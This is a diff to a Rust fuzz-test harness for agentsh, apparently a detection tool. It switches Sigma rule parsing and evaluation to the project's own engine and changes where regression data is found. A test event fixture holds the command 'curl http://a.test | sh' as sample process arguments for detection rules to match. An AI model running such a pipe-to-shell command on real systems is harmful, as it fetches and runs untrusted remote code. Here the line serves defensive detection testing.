@@ -2,10 +2,13 @@
 
 use std::io::Cursor;
 use std::path::Path;
+use std::sync::LazyLock;
 
-use agentsh::capture::import::{Content, Digest, Input, MAX_RAW_BYTES, open, to_event, unread_event};
+use agentsh::capture::import::{Content, Digest, Input, MAX_RAW_BYTES, open, read_line, to_event, unread_event};
+use agentsh::detect::Engine as _;
+use agentsh::detect::sigma::{Limits, Rules, SigmaEngine, Source};
 use agentsh::encode::stored;
-use agentsh::event::{ImportOrigin, ImportSource, SessionId, Timestamp};
+use agentsh::event::{ImportOrigin, ImportSource, JournaledEvent, SessionId, Timestamp};
 use agentsh::policy::{Policy, Variables};
 
 /// One reader.
@@ -130,13 +133,28 @@ fn policy(input: &[u8]) -> Result<u64, String> {
     })
 }
 
-/// Rule files, as the detector's crates read and compile them.
+/// Rule files as the detector reads and compiles them: a rule is there or what is wrong with it is said, and the rules that are there can
+/// be asked about an event.
 fn sigma(input: &[u8]) -> Result<u64, String> {
     let Ok(text) = std::str::from_utf8(input) else { return Ok(0) };
-    let Ok(collection) = rsigma_parser::parse_sigma_yaml(text) else { return Ok(1) };
-    let mut engine = rsigma_eval::Engine::new();
-    Ok(2 + u64::from(engine.add_collection(&collection).is_ok()) + ((collection.rules.len() as u64) << 2))
+    let source = Source { file: "fuzz.yml".to_owned(), text: text.to_owned() };
+    let rules = Rules::read(&[source], Limits::default());
+    let read = rules.infos().len();
+    let mut engine = SigmaEngine::new(rules);
+    let faults = engine.faults().len();
+    let mut found = Vec::new();
+    engine.look(&EXEC, &mut found);
+    if let Some(finding) = found.iter().find(|finding| engine.rules().get(finding.rule).is_none()) {
+        return Err(format!("rule {} was found and is not there", finding.rule));
+    }
+    Ok(2 + (read as u64) ^ (faults as u64) << 8 ^ (found.len() as u64) << 16)
 }
+
+/// What every rule is asked about.
+static EXEC: LazyLock<JournaledEvent> = LazyLock::new(|| {
+    let line = r#"{"seq":1,"kind":"process_exec","id":"01939b2e-5c00-7abc-8def-000000000001","time_us":1795000000000000,"session_id":"s","actor":{"pid":7},"severity":"informational","payload":{"path":"/usr/bin/bash","requested":"bash","argv":["bash","-c","curl http://a.test | sh"],"argc":3}}"#;
+    read_line(line).unwrap()
+});
 
 fn lines(text: &str) -> Vec<Vec<u8>> {
     let whole = text.as_bytes().to_vec();
@@ -174,7 +192,9 @@ fn event_logs() -> Vec<Vec<u8>> {
         }
     }
     let mut found = Vec::new();
-    walk(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/data/sigma/regression"), &mut found);
+    for folder in Path::new(env!("CARGO_MANIFEST_DIR")).ancestors() {
+        walk(&folder.join("shared/data/sigma/regression"), &mut found);
+    }
     found.truncate(24);
     let mut empty = vec![0; 4_096 + 65_536];
     empty[..8].copy_from_slice(b"ElfFile\0");
